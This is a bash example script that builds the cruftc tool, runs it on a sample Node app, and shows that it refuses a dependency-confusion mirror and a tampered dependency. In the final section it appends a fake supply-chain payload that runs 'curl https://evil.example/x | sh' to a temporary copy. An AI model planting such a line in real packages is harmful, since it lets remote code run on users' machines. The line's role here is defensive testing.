#!/usr/bin/env bash
# Sets up a fresh Debian 12 machine (scripts/setup.sh), builds cruftc, and runs it on the bundled
# example application, examples/greeter: an ES-module app with a CommonJS dependency.
# Today's pipeline ends at CapLowering: every source is parsed in the goal Node would use, the
# closed module graph and its capabilities are checked against cruft.lock, each module is lowered
# to a function of its capability handles, and a tampered copy is caught. Later stages extend
# this script as they land.
set -euo pipefail
cd "$(dirname "$0")/.."

bash scripts/setup.sh
echo "== building cruftc (release)"
swift build -c release --product cruftc 2>&1 | grep -vE '^\[[0-9]+/[0-9]+\]' || true
cruftc=.build/release/cruftc
app=examples/greeter

echo
echo "== cruftc parse: every source of the app and its dependencies"
sources=$(find "$app" -name '*.js' -o -name '*.mjs' -o -name '*.cjs' | sort)
echo "$sources" | sed 's/^/   /'
$cruftc parse $sources

echo
echo "== cruftc parse --dump-ast $app/node_modules/greeting-words/index.js"
$cruftc parse --dump-ast "$app/node_modules/greeting-words/index.js"

echo
echo "== cruftc check: the closed module graph against the committed cruft.lock"
$cruftc check --project "$app"

echo
echo "== cruftc graph --format dot (for Graphviz: | dot -Tsvg > graph.svg)"
$cruftc graph --project "$app"

echo
echo "== cruftc build --emit lowered: every module as a function of its capability handles"
$cruftc build --project "$app" --emit lowered

echo
echo "== cruftc audit: what each package claims, is granted, and uses"
$cruftc audit --project "$app"

echo
echo "== provenance: the dependency published through a local registry, and the app locked from it"
work=$(mktemp -d)
trap 'rm -rf "$work" "${copy:-}"' EXIT
fingerprint() { $cruftc key generate --out "$1" | grep -o 'ed25519:[a-z2-7]*' | head -1; }
registry_fpr=$(fingerprint "$work/registry")
publisher_fpr=$(fingerprint "$work/publisher")
$cruftc registry init --key "$work/registry.key" --name local "$work/registry"
$cruftc registry allow "$work/registry" --namespace greeting-words --publisher "$work/publisher.pub" --key "$work/registry.key"
$cruftc pack "$app/node_modules/greeting-words" --out "$work/greeting-words.tgz"
$cruftc publish --key "$work/publisher.key" "$work/greeting-words.tgz" --to "$work/registry" --registry-key "$work/registry.key"
mkdir -p "$work/app"
cp -r "$app/src" "$app/package.json" "$work/app/"
cat > "$work/app/cruft.json" <<JSON
{
  "entry": "src/main.mjs",
  "registries": { "local": { "path": "$work/registry", "fingerprint": "$registry_fpr" } },
  "namespaces": { "*": "local" },
  "dependencies": { "greeting-words": "1.0.0" }
}
JSON
$cruftc lock --project "$work/app"
$cruftc check --project "$work/app"

echo
echo "== dependency confusion: another registry serves its own greeting-words first; the pin refuses it"
mirror_fpr=$(fingerprint "$work/mirror")
$cruftc key generate --out "$work/mallory" > /dev/null
$cruftc registry init --key "$work/mirror.key" --name mirror "$work/mirror" > /dev/null
$cruftc registry allow "$work/mirror" --namespace greeting-words --publisher "$work/mallory.pub" --key "$work/mirror.key" > /dev/null
$cruftc publish --key "$work/mallory.key" "$work/greeting-words.tgz" --to "$work/mirror" --registry-key "$work/mirror.key" > /dev/null
rm -rf "$work/app/node_modules" "$work/app/cruft.lock"
cat > "$work/app/cruft.json" <<JSON
{
  "entry": "src/main.mjs",
  "registries": {
    "mirror": { "path": "$work/mirror", "fingerprint": "$mirror_fpr" },
    "local": { "path": "$work/registry", "fingerprint": "$registry_fpr" }
  },
  "namespaces": { "greeting-words": "local", "*": "mirror" },
  "dependencies": { "greeting-words": "1.0.0" }
}
JSON
status=0
$cruftc lock --project "$work/app" || status=$?
[ "$status" -eq 1 ] || { echo "example: the confused lock gave status $status instead of 1" >&2; exit 1; }
echo "(cruftc lock refused the mirror's copy with exit status 1 and wrote nothing)"

echo
echo "== a supply-chain attack on a copy: the dependency now runs a shell command"
copy=$(mktemp -d)
cp -r "$app/." "$copy"
echo 'require("child_process").exec("curl https://evil.example/x | sh");' >> "$copy/node_modules/greeting-words/index.js"
status=0
$cruftc check --project "$copy" || status=$?
if [ "$status" -ne 1 ]; then
  echo "example: cruftc check gave status $status on the tampered copy instead of 1" >&2
  exit 1
fi
echo "(cruftc check rejected the tampered copy with exit status 1)"
